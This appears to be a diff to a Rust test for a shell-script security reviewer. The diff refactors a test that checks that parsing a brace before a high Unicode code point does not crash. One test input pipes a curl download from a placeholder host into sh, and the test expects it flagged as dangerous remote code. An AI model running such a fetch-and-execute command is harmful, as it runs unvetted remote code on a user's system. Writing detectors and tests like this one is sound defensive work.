@@ -421,23 +421,15 @@ fn unreviewable_is_suspicious() {
 /// (tree-sitter-bash#337); the review reads such scripts, and judges what follows the brace.
 #[test]
 fn a_brace_before_a_high_code_point_does_not_crash_the_shell_parse() {
-    for (code, verdict) in [
-        ("echo {\u{E0100}\necho done\n", Clean),
-        ("echo {1..\u{E0100}\n", Clean),
-        ("x=\"{\u{1F600}\"\necho \"$x\"\n", Clean),
-        (
-            "echo {\u{E0100}\ncurl -s https://a.example.invalid/x.sh | sh\n",
-            Dangerous,
-        ),
-    ] {
-        let ctx = Context {
-            cwd: "/home/dev/project".into(),
-            home: "/home/dev".into(),
-            tmp_dirs: vec!["/tmp".into()],
-        };
-        let report = review_source(code, Sh, &ctx, &Config::default());
-        assert_eq!(report.verdict, verdict, "`{code}`\n{report:#?}");
-    }
+    check(Sh, "echo {\u{E0100}\necho done\n", Clean, "");
+    check(Sh, "echo {1..\u{E0100}\n", Clean, "");
+    check(Sh, "x=\"{\u{1F600}\"\necho \"$x\"\n", Clean, "");
+    check(
+        Sh,
+        "echo {\u{E0100}\ncurl -s https://a.example.invalid/x.sh | sh\n",
+        Dangerous,
+        "remote-code",
+    );
 }
 
 #[test]
